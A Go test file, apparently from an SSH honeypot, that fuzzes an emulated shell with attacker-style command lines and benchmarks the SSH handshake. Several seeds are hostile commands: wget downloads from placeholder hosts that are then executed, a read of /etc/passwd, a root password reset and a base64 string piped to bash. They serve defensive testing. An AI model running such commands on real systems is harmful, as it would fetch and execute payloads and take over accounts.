package ssh

import (
	"bytes"
	"io"
	"net"
	"testing"

	"golang.org/x/crypto/ssh"
)

// FuzzShellLine feeds command lines to the parser and interpreter. Seeds
// are lines attackers type (more under testdata/fuzz/FuzzShellLine). The
// shell must never panic, never print more than its output limit, and
// never let the session filesystem outgrow its budget.
func FuzzShellLine(f *testing.F) {
	for _, seed := range []string{
		"cd /tmp; wget http://x/a.sh; chmod +x a.sh; ./a.sh",
		"cat /proc/cpuinfo | grep name | wc -l",
		`echo -e '\x41'`,
		"uname -a; cat /etc/passwd",
		"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
		"echo \"root:Passw0rd\" | chpasswd",
		"cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
		"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
		"ls -lh $(which ls)",
		"crontab -l; w; uname -m; top -bn1 | head -5",
		"echo ZWNobyBoaQ== | base64 -d | bash",
		"for i in $(seq 1 10); do echo $i; done",
		`export PATH=$PATH:/usr/sbin; X="${HOME:-/}"; echo ${#X} $$ $?`,
		"(cd /tmp && ls) > /dev/null 2>&1 &",
		"echo 'unterminated",
		"; ;; && || | >",
		"$((1+2)) `whoami` $(echo $(id))",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, line string) {
		sh := newTestShell(t, "root", modeInteractive)
		var out bytes.Buffer
		sh.Run(line, &out)
		sh.Run(line, &out) // twice: the first run may have changed state
		if out.Len() > 2*maxOutput {
			t.Fatalf("printed %d bytes", out.Len())
		}
		if sh.fs.budget < 0 {
			t.Fatalf("filesystem budget %d", sh.fs.budget)
		}
	})
}

// BenchmarkShellCommand measures one typical attacker line through the
// interpreter.
func BenchmarkShellCommand(b *testing.B) {
	sh := newTestShell(b, "root", modeInteractive)
	for b.Loop() {
		sh.Run("cat /proc/cpuinfo | grep name | wc -l; uname -a; ls -la /etc", io.Discard)
	}
}

// BenchmarkHandshake measures a full SSH handshake with a successful
// password login.
func BenchmarkHandshake(b *testing.B) {
	srv := startServer(b, sharedKeys, nil)
	cfg := clientConfig("root", rootPassword(srv.persona), nil)
	for b.Loop() {
		c, err := net.Dial("tcp", srv.addr)
		if err != nil {
			b.Fatal(err)
		}
		sc, chans, reqs, err := ssh.NewClientConn(c, srv.addr, cfg)
		if err != nil {
			b.Fatal(err)
		}
		ssh.NewClient(sc, chans, reqs).Close()
	}
}
